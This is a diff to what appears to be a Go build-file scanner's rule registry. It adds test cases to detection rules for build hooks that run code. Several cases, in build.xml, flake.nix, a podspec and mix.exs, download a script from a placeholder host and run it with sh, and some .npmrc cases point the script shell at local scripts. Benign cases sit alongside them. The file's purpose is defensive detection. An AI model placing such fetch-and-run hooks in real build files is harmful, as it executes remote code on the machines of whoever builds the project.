@@ -254,6 +254,9 @@ var registry = []Rule{
 		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
 		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
 		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
+		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
+		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
+		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -349,6 +352,8 @@ var registry = []Rule{
 			{".cargo/config.toml", "[build]\nrustc-wrapper = \"sccache\"", 2, true},
 			{".npmrc", "node-options=--require ./scripts/hook.js", 0, false},
 			{".npmrc", "script-shell=./tools/sh", 0, false},
+			{".npmrc", "engine-strict=true\nscript-shell=./tools/ci-shell.sh", 2, false},
+			{".npmrc", "script-shell=/bin/bash", 0, true},
 			{".npmrc", "engine-strict=true", 0, true},
 		}},
 	{"powershell-hidden", KindExecute, High, "starts PowerShell with a hidden window to run a command",
